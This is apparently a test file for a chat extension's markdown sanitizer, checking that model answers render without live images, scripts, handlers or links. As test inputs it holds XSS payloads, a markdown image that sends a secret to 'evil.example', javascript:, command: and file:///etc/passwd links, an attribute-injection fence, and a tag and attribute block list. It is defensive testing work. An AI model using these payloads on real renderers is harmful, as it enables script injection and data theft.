import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { codeBlocksOf, renderMarkdown } from '../../src/core/chat/markdownRenderer';
import { findDisallowedHtml } from '../../src/core/chat/htmlAllowList';
import { stripThoughts } from '../../src/core/chat/thinkSplitter';
import { CHAT_ANSWER, HOSTILE_ANSWER, HOSTILE_URL } from '../fixtures/makeTestModel';

/** Every tag in the output with its attributes, for checks that ignore escaped text. */
function tags(html: string): { name: string; attributes: Record<string, string> }[] {
  return [...html.matchAll(/<([a-z][a-z0-9]*)((?:\s+[a-z][a-z0-9-]*="[^"]*")*)\s*\/?>/g)].map((m) => ({
    name: m[1]!,
    attributes: Object.fromEntries([...m[2]!.matchAll(/\s+([a-z][a-z0-9-]*)="([^"]*)"/g)].map((a) => [a[1]!, a[2]!])),
  }));
}

/** Asserts that nothing in the HTML can load a resource, run script or navigate. */
function assertInert(html: string): void {
  assert.equal(findDisallowedHtml(html), undefined);
  for (const tag of tags(html)) {
    assert.ok(
      !['img', 'svg', 'meta', 'style', 'script', 'iframe', 'link', 'object', 'embed', 'form', 'base'].includes(
        tag.name,
      ),
      `no <${tag.name}> may appear`,
    );
    for (const [name, value] of Object.entries(tag.attributes)) {
      assert.ok(!/^on/i.test(name), `no event handler attribute (${name} on <${tag.name}>)`);
      assert.ok(
        !['href', 'src', 'srcset', 'style', 'action', 'formaction', 'background', 'poster', 'xlink:href'].includes(
          name,
        ),
        `no ${name} attribute`,
      );
      if (name !== 'title')
        assert.ok(!/javascript:|command:|url\(/i.test(value), `no active value in ${name}="${value}"`);
      if (name === 'data-href') assert.match(value, /^https?:\/\//);
    }
  }
}

describe('markdown sanitizer', () => {
  test('renders the hostile test-model answer inert: no image, handler, script link or meta refresh', () => {
    const { html, clean } = renderMarkdown(HOSTILE_ANSWER);
    assert.ok(clean);
    assertInert(html);
    assert.ok(html.includes('(image not loaded)'), 'the image shows as a note');
    assert.ok(html.includes('&lt;img src='), 'raw HTML shows as escaped text');
    assert.ok(html.includes('&lt;meta http-equiv'), 'the meta refresh shows as escaped text');
  });

  test('shows a remote image as its alt text with a note, never as an <img>', () => {
    const { html } = renderMarkdown(`![secret](https://evil.example/?d=SECRET)`);
    assertInert(html);
    assert.match(html, /<span class="inert-image" title="Image not loaded: https:\/\/evil\.example\/\?d=SECRET">/);
    assert.match(html, /secret <em>\(image not loaded\)<\/em>/);
  });

  test('shows a reference-style image as text too', () => {
    const { html } = renderMarkdown(`Look: ![chart][c]\n\n[c]: ${HOSTILE_URL}`);
    assertInert(html);
    assert.ok(html.includes('chart <em>(image not loaded)</em>'));
  });

  test('escapes raw HTML with event handlers, including SVG onload', () => {
    for (const source of [
      '<img src=x onerror="alert(1)">',
      '<svg onload="alert(2)"><circle/></svg>',
      '<div onclick="x()">hi</div>',
      '<script>alert(1)</script>',
      '<iframe src="https://x"></iframe>',
    ]) {
      const { html } = renderMarkdown(source);
      assertInert(html);
      assert.ok(html.includes('&lt;'), `${source} is shown as text`);
    }
  });

  test('makes javascript: and command: links inert, inline and reference-style', () => {
    for (const source of [
      '[docs](javascript:alert(3))',
      '[quit](command:workbench.action.quit)',
      '[x][r]\n\n[r]: javascript:alert(5)',
      '[x][q]\n\n[q]: command:workbench.action.quit',
      '[m](JAVASCRIPT:alert(1))',
      '[d](data:text/html,hi)',
      '[f](file:///etc/passwd)',
      '<javascript:alert(1)>',
    ]) {
      const { html } = renderMarkdown(source);
      assertInert(html);
      assert.ok(!html.includes('<a '), `${source} is not a live link`);
    }
  });

  test('keeps a CSS url() and a meta refresh as visible text', () => {
    const { html } = renderMarkdown(
      `<span style="background:url(${HOSTILE_URL})">s</span> <meta http-equiv="refresh" content="0;url=${HOSTILE_URL}">`,
    );
    assertInert(html);
    assert.ok(html.includes('style=&quot;background:url('));
  });

  test('turns a web link into a data-href link that the extension opens after asking', () => {
    const { html } = renderMarkdown('[docs](https://nodejs.org/api/fs.html "Node") and www.example.com');
    assertInert(html);
    assert.match(
      html,
      /<a class="md-link" data-href="https:\/\/nodejs\.org\/api\/fs\.html" title="https:\/\/nodejs\.org\/api\/fs\.html" tabindex="0" role="link">docs<\/a>/,
    );
    assert.ok(html.includes('data-href="http://www.example.com"'));
  });

  test('highlights code with class-only spans and adds Copy, Insert and Apply buttons numbered per block', () => {
    const { html, codeBlocks } = renderMarkdown(stripThoughts(CHAT_ANSWER) + '\n\n```python\nprint(1)\n```\n');
    assertInert(html);
    assert.ok(html.includes('<span class="hljs-keyword">function</span>'));
    assert.deepEqual(
      codeBlocks.map((b) => b.language),
      ['js', 'python'],
    );
    assert.equal(codeBlocks[0]!.code, 'function add(a, b) {\n  return a + b;\n}');
    for (const action of ['copy', 'insert', 'apply'])
      assert.ok(html.includes(`data-action="${action}" data-block="1"`));
  });

  test('lists code blocks with the same numbering as the rendered buttons, an unclosed fence included', () => {
    const source = 'a\n\n```ts\nlet x = 1;\n```\n\n    indented()\n\n```js\nunfinished(';
    assert.deepEqual(codeBlocksOf(source), renderMarkdown(source).codeBlocks);
    assert.deepEqual(
      codeBlocksOf(source).map((b) => b.code),
      ['let x = 1;', 'indented()', 'unfinished('],
    );
  });

  test('keeps a hostile fence language word out of the class attribute', () => {
    const { html, codeBlocks } = renderMarkdown('```js" onmouseover="alert(1)\nx\n```');
    assertInert(html);
    assert.equal(codeBlocks[0]!.language, '');
  });

  test('renders table alignment as a class, never a style attribute', () => {
    const { html } = renderMarkdown('| a | b |\n|:-|-:|\n| 1 | 2 |');
    assertInert(html);
    assert.ok(html.includes('<th class="align-left">a</th>'));
  });

  test('renders partial markdown while it streams without breaking the allow-list', () => {
    const full = stripThoughts(CHAT_ANSWER);
    for (let n = 0; n <= full.length; n += 3)
      assert.ok(renderMarkdown(full.slice(0, n)).clean, `prefix of ${n} characters`);
  });

  test('the allow-list rejects tags and attributes the renderer never writes', () => {
    assert.match(findDisallowedHtml('<p>ok</p><img src="x">')!, /<img>/);
    assert.match(findDisallowedHtml('<a href="https://x">x</a>')!, /href/);
    assert.match(findDisallowedHtml('<a data-href="javascript:alert(1)">x</a>')!, /data-href/);
    assert.match(findDisallowedHtml('<a data-href="&#x6A;avascript:alert(1)">x</a>')!, /data-href/);
    assert.match(findDisallowedHtml('<span onclick="x">x</span>')!, /onclick/);
    assert.match(findDisallowedHtml('<span style="color:red">x</span>')!, /style/);
    assert.match(findDisallowedHtml('<p>a > b</p>')!, /raw ">"/);
    assert.match(findDisallowedHtml('<p>a <b</p>')!, /not an allowed tag/);
    assert.equal(findDisallowedHtml('<p class="x">a &lt; b</p>'), undefined);
  });
});
